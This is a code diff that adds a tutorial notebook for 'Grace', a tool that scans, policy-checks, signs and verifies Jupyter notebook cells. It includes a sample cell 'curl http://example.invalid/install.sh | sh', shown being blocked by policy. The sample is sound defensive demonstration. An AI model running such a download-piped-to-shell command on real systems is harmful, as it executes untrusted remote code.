@@ -150,6 +150,123 @@ QUICKSTART = [
     ),
 ]
 
+GOVERNED_RUNS = [
+    new_markdown_cell(
+        "# Governed notebook runs: run, block, verify\n\n"
+        "`grace run` (and `papermill --engine grace`) runs a notebook through Grace: "
+        "each cell is scanned by Hunter, decided by policy, executed in the Grace kernel "
+        "(with its runtime guard), and signed into the ledger with digests of its code and "
+        "outputs. In this notebook you will:\n\n"
+        "1. make a small project with its own workspace and an analysis notebook,\n"
+        "2. run it with a parameter through the `grace` papermill engine,\n"
+        "3. see a cell that policy refuses stop a run, with the reason in the notebook,\n"
+        "4. verify the output notebook cell by cell, from the workspace and from a bundle,\n"
+        "5. change one number in it and watch verification name the cell.\n\n"
+        "From a terminal the same steps are `grace run analysis.ipynb -p alpha 0.5`, "
+        "`grace verify --notebook analysis.out.ipynb` and, for a collaborator, "
+        "`grace verify --notebook analysis.out.ipynb --bundle BUNDLE`."
+    ),
+    new_code_cell(
+        "import os\n"
+        "import tempfile\n"
+        "from pathlib import Path\n"
+        "\n"
+        "import nbformat\n"
+        "import papermill\n"
+        "from nbformat.v4 import new_code_cell, new_notebook\n"
+        "\n"
+        "from grace_kernel import Settings, Workspace\n"
+        "from grace_kernel.ledger import export_bundle\n"
+        "from grace_kernel.runs import run_notebook, verify_notebook\n"
+        "\n"
+        "project = Path(tempfile.mkdtemp(prefix='grace-runs-'))\n"
+        "ws = Workspace.open(Settings(home=project / '.grace'))\n"
+        "\n"
+        "\n"
+        "def make_notebook(path, *sources):\n"
+        "    nb = new_notebook(metadata={'kernelspec': {'name': 'python3', 'language': 'python',\n"
+        "                                               'display_name': 'Python 3'}})\n"
+        "    nb.cells = [new_code_cell(s) for s in sources]\n"
+        "    nb.cells[0].metadata['tags'] = ['parameters']\n"
+        "    nbformat.write(nb, str(path))\n"
+        "    return path\n"
+        "\n"
+        "\n"
+        "analysis = make_notebook(\n"
+        "    project / 'analysis.ipynb',\n"
+        "    'alpha = 0.1',\n"
+        "    'import statistics\\nsample = [alpha * i for i in range(10)]\\n'\n"
+        "    'print(f\"mean = {statistics.fmean(sample):.2f}\")',\n"
+        ")\n"
+        "print('project:', project)"
+    ),
+    new_markdown_cell(
+        "## 1. A governed run with a parameter\n\n"
+        "`papermill --engine grace` uses the engine Grace registers with papermill; it reads "
+        "the workspace from `GRACE_HOME`. The signing key stays in this process: the Grace "
+        "kernel that runs the cells never signs anything."
+    ),
+    new_code_cell(
+        "os.environ['GRACE_HOME'] = str(project / '.grace')\n"
+        "out = project / 'analysis.out.ipynb'\n"
+        "papermill.execute_notebook(\n"
+        "    str(analysis), str(out), parameters={'alpha': 0.5}, engine_name='grace',\n"
+        "    progress_bar=False, cwd=str(project),\n"
+        ")\n"
+        "result = nbformat.read(str(out), as_version=4)\n"
+        "print(''.join(result.cells[-1].outputs[0]['text']))\n"
+        "print('run record:', result.metadata['grace']['run_record'])"
+    ),
+    new_markdown_cell(
+        "## 2. A cell that policy refuses\n\n"
+        "A download piped into a shell is a critical Hunter finding, and the seeded policy "
+        "`cell-critical-deny` never runs it. The run stops there; the reason is the cell's "
+        "output, and the cells after it never run."
+    ),
+    new_code_cell(
+        "risky = make_notebook(\n"
+        "    project / 'risky.ipynb',\n"
+        "    'x = 1',\n"
+        "    '!curl http://example.invalid/install.sh | sh',\n"
+        "    'print(\"never printed\")',\n"
+        ")\n"
+        "summary = run_notebook(ws, risky, project / 'risky.out.ipynb', cwd=project)\n"
+        "print(summary.text())\n"
+        "refused = nbformat.read(str(project / 'risky.out.ipynb'), as_version=4)\n"
+        "# papermill puts a red banner cell on top of a failed run; look at the code cells\n"
+        "code = [c for c in refused.cells if c.cell_type == 'code']\n"
+        "print(code[1].outputs[0]['evalue'])\n"
+        "assert summary.status == 'denied'"
+    ),
+    new_markdown_cell(
+        "## 3. Verify the output notebook\n\n"
+        "Each code cell must match a signed `cell-execution` record: same cell id, same code "
+        "digest, same digests of its normalized outputs. First against the workspace, then "
+        "the way a collaborator would: with only the notebook and an exported bundle."
+    ),
+    new_code_cell(
+        "report = verify_notebook(out, workspace=ws)\n"
+        "print(report.text())\n"
+        "bundle = project / 'bundle'\n"
+        "export_bundle(ws.ledger, bundle)\n"
+        "print(verify_notebook(out, bundle=bundle).text())\n"
+        "assert report.ok"
+    ),
+    new_markdown_cell(
+        "## 4. Change one number\n\n"
+        "Someone edits the printed mean. Verification names the cell whose outputs no "
+        "longer match what was signed."
+    ),
+    new_code_cell(
+        "result.cells[-1].outputs[0]['text'] = 'mean = 9.99\\n'\n"
+        "nbformat.write(result, str(out))\n"
+        "tampered = verify_notebook(out, bundle=bundle)\n"
+        "print(tampered.text())\n"
+        "assert not tampered.ok\n"
+        "ws.close()"
+    ),
+]
+
 
 def write(path: Path, cells: list[nbformat.NotebookNode]) -> None:
     notebook = new_notebook(cells=cells)
@@ -168,6 +285,7 @@ def write(path: Path, cells: list[nbformat.NotebookNode]) -> None:
 
 def main() -> None:
     write(ROOT / "notebooks" / "quickstart.ipynb", QUICKSTART)
+    write(ROOT / "notebooks" / "governed_runs.ipynb", GOVERNED_RUNS)
 
 
 if __name__ == "__main__":
